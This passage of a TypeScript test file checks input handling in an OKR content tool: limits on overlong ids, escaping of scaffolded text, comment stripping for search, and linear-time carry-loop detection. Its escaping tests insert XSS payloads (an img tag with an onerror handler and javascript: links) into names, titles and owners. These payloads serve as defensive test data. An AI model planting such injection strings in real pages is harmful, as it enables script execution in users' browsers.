    const csv = `team,objective,objective_title,kr,kr_title,baseline,target\nsales,2026-q3/sales/${'a'.repeat(300)},Grow,mrr-9,MRR,1,2\nsales,2026-q3/${'b/'.repeat(2100)}c,Grow,mrr-8,MRR,1,2\n`;
    expect(() => importCsv(root, csv)).toThrowErrorMatchingInlineSnapshot(`
      [UsageError: nothing was imported; 2 problems:
      okrs.csv row 2, column objective: the objective id "2026-q3/sales/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa..." has a part of 300 characters, above the 200 a file or folder name may have; shorten it
      okrs.csv row 3, column objective: the objective id "2026-q3/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b..." has 4209 characters, above the 1000 a path of the content root may have; shorten it]
    `);
    // The command itself (exit 1, no stack trace): tests/cli/hostile-cli.test.ts.
    expect(readdirSync(root, { recursive: true }).sort()).toEqual(before);
  });
});

describe('issue 26: scaffolds copy text, never markup', () => {
  const markup = '<img src=x onerror=alert(1)> [click](javascript:alert(1)) **bold** {1+1} &lt;';
  /** The HTML Astro's Markdown processor makes of a body (the fast path renders `.md` bodies this way). */
  const rendered = (text: string) => markdownToHtml(text.replace(/^---\n[\s\S]*?\n---\n/, ''), { features: { gfm: true, smartPunctuation: false } }).html;
  const root = contentRoot({
    'cycles/2026-q3.md': `---\nname: ${JSON.stringify(`Q3 ${markup}`)}\nstart: 2026-07-01\nend: 2026-09-30\n---\n`,
    'cycles/2026-q4.md': '---\nname: Q4 2026\nstart: 2026-10-01\nend: 2026-12-31\n---\n',
    'okrs/2026-q3/sales/win-mid-market.md': `---\ntitle: ${JSON.stringify(`# Win ${markup}`)}\nteam: sales\ncycle: 2026-q3\nowner: ${JSON.stringify(`<b>Aisha</b> ${markup}`)}\nkey_results:\n  - id: new-mrr\n    title: MRR\n    baseline: 0\n    target: 10\n---\n`,
    'checkins/2026-q3/sales/2026-07-13.md': `---\nteam: sales\ndate: 2026-07-13\nactions:\n  - title: ${JSON.stringify(`- 1. > # ${markup}`)}\n    owner: ${JSON.stringify(`[x](javascript:alert(2))`)}\n    status: todo\n---\n`,
  });
  const { model } = load(root, { asOf: '2026-08-01' });

  it.each([
    ['new handover', ['handover', '--team', 'sales', '--to', 'Nurul Huda']],
    ['new objective --carry', ['objective', '--carry', '2026-q3/sales/win-mid-market']],
    ['new team', ['team', 'evil', '--name', `Evil ${markup}`]],
  ])('%s: every copied text reads as written, and the page holds no element or link from it', (_name, args) => {
    const html = rendered(planNew(args, model).text);
    expect(html).not.toMatch(/<(img|b|a|h1|ol|blockquote)\b/);
    expect(html).not.toContain('javascript:alert(1)"');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt; [click](javascript:alert(1)) **bold** {1+1} &amp;lt;');
  });
});

describe('issue 26: search indexes what the page shows', () => {
  it('leaves out MDX comments, nested expressions, ESM, `[//]: #` comments, reference definitions and HTML comments', () => {
    const mdx = "import X from './x.js'\n\nShown one. {/* secret1 {ref} */} Shown two {a ? {b: 'secret2'} : 1}.\n\n[//]: # (secret3)\n\n[unused]: https://secret4.example \"secret5\"\n\n<X kind=\"secret6\">Shown three</X>\n";
    expect(bodyText({ file: 'okrs/a.mdx', body: mdx })).toBe('Shown one. Shown two . Shown three');
    const md = 'Shown <!-- secret1 --> **one**.\n\n[//]: # (secret2)\n\n[ref]: https://secret3.example "secret4"\n\n<div>Two <!-- secret5 --> <span title="secret6">three</span></div>\n\n<script>secret7</script>\n\nFour\n\n<!-- never closed\nsecret8';
    expect(bodyText({ file: 'okrs/a.md', body: md })).toBe('Shown one. Two three Four');
  });
});

describe('issue 26: carry loops are found in linear time', () => {
  it('reads each `carried_from` a bounded number of times on a 3,000-long chain and a 3,000-long loop', () => {
    for (const loop of [false, true]) {
      const n = 3000;
      let reads = 0;
      const content = loadedObjectives(n, (i) => (i === 0 ? (loop ? `2026-q3/sales/o${n - 1}` : undefined) : `2026-q3/sales/o${i - 1}`), () => reads++);
      const errors: string[] = [];
      checkContinuity(content, (entry, _line, code) => errors.push(`${entry.file}: ${code}`), () => '');
      // Before: every start walked its whole chain with `includes`, n * n / 2 reads and n^3 / 6 comparisons.
      expect(reads).toBeLessThanOrEqual(4 * n);
      expect(errors.filter((e) => e.endsWith('carry-loop'))).toEqual(loop ? ['okrs/2026-q3/sales/o0.md: carry-loop'] : []);
    }
  });
});

/** A loaded content root of `n` objectives whose `carried_from` is counted each time it is read. */
function loadedObjectives(n: number, carriedFrom: (i: number) => string | undefined, onRead: () => void): LoadedContent {
  const objectives = Array.from({ length: n }, (_, i) => {
    const data = { title: `O${i}`, team: 'sales', cycle: '2026-q3', key_results: [] };
    Object.defineProperty(data, 'carried_from', { enumerable: true, get: () => (onRead(), carriedFrom(i)) });
    return { id: `2026-q3/sales/o${i}`, file: `okrs/2026-q3/sales/o${i}.md`, data, lines: {}, lineOf: () => 1, itemLines: () => [], body: '' };
  });
  return {
    settings: {} as LoadedContent['settings'],
    teams: [],
    cycles: [],
    objectives: objectives as unknown as LoadedContent['objectives'],
    checkIns: [],
    guide: [],
    handovers: [],
    known: { teams: new Set(['sales']), cycles: new Set(), objectives: new Set(objectives.map((o) => o.id)), keyResults: new Set(), brokenCycles: false },
    findings: [],
    files: n,
  };
}
